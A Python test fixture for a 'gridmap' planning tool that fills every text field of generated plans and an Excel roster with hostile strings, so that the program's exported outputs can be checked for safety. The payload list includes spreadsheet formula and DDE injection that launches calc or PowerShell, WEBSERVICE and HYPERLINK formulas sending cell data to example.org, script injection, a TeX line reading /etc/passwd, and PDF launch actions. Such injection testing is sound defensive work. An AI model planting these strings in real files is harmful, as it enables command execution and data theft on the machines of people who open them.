"""Texts that run where a program is careless, in every text field of a plan and a roster."""

from __future__ import annotations

import dataclasses
import string
from typing import TYPE_CHECKING

import openpyxl
import pandas as pd
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE
from toy_plans import draw_plan

from gridmap.findings import FindingKind
from gridmap.rosters import Roster, read_roster

if TYPE_CHECKING:
    from collections.abc import Iterator
    from pathlib import Path

    from gridmap.model import Plan

_STARTS = ("=", "+", "-", "@", "|", "%", "＝", "＋", "－", "＠", "\t=", "\r=", " =", "\u200b=")
_BODIES = (
    "1+1",
    "cmd|' /C calc'!A0",
    'HYPERLINK("http://example.org/?"&A1,"x")',
    'WEBSERVICE("http://example.org")',
    'DDE("cmd";"/C calc";"x")',
    'IMPORTXML(CONCAT("http://example.org/",A1),"//a")',
    "SUM(1+1)*cmd|' /C powershell'!A0",
)
PAYLOADS = [start + body for start in _STARTS for body in _BODIES] + [
    "_x003D_1+1",
    "'=1",
    '"=1"',
    "\ufeff=1",
    "\x00=1",
    "a\x07b\x1bc",
    ";=1",
    "<script>alert(1)</script>",
    "$\\mathrm{x}$ \\input{/etc/passwd}",
    ") Tj ET /OpenAction << /S /JavaScript /JS (app.alert(1)) >>",
    "endstream endobj 1 0 obj << /AA << /O << /S /Launch /F (calc.exe) >> >> >>",
    '&"Courier"&P&[File]',
    "\u202e=1",
]
"""Texts: formulas, DDE, markup, TeX, PDF operators, codes of page headers."""
KIND = FindingKind("hostile", "warning", "{count} {places}", "{count} {places}", "{places}", "。")
GRIDS, FEW = 36, 12


def hostile_plans() -> Iterator[tuple[Plan, list[str]]]:
    """Yield plans of 36 grids, each its own community, until each payload was in each field."""
    for start in range(0, len(PAYLOADS), GRIDS):
        names = [PAYLOADS[(start + n) % len(PAYLOADS)] for n in range(GRIDS)]
        yield _make_plan(names), names


def crowded_plan() -> tuple[Plan, list[str]]:
    """Return one plan whose fields hold several payloads each, all of them in each field."""
    names = [" ".join(PAYLOADS[n::FEW]) for n in range(FEW)]
    return _make_plan(names), names


def _make_plan(names: list[str]) -> Plan:
    letters = (string.ascii_letters + string.digits)[: len(names)]
    drawing = "\n".join(letters[n : n + 6] for n in range(0, len(names), 6))
    plan = draw_plan(drawing, communities=drawing)
    units = plan.territory.units
    communities = units.communities.assign(name=names, township=names[::-1])
    units = dataclasses.replace(units, communities=communities)
    return dataclasses.replace(
        plan,
        grids=plan.grids.assign(**dict.fromkeys(("code", "name", "reason", "reason_en"), names)),
        territory=dataclasses.replace(plan.territory, units=units),
        findings=(KIND.found(names),),
        about=dict(zip(names, names[::-1], strict=True)),
    )


def hostile_roster(plan: Plan, names: list[str], folder: Path) -> Roster:
    """Return a roster with a payload in every field, through a file."""
    book = openpyxl.Workbook()
    page = book.active
    assert page is not None
    heads = ("网格编码", "社区", "职务", "姓名", "电话", "专兼职", "任职起")
    for number, head in enumerate(heads, 1):
        page.cell(1, number).value = head
    for row, (grid, name) in enumerate(zip(plan.grids.index, names, strict=True), 2):
        values = (grid, name, name if row % 3 == 0 else "网格员", name, name, name, name)
        for number, value in enumerate(values, 1):
            cell = page.cell(row, number)
            cell.value = ILLEGAL_CHARACTERS_RE.sub("", value)
            cell.data_type = "s"
    book.save(folder / "roster.xlsx")
    read = read_roster(folder / "roster.xlsx", phones=True)
    assert isinstance(read.rows, pd.DataFrame)
    return read
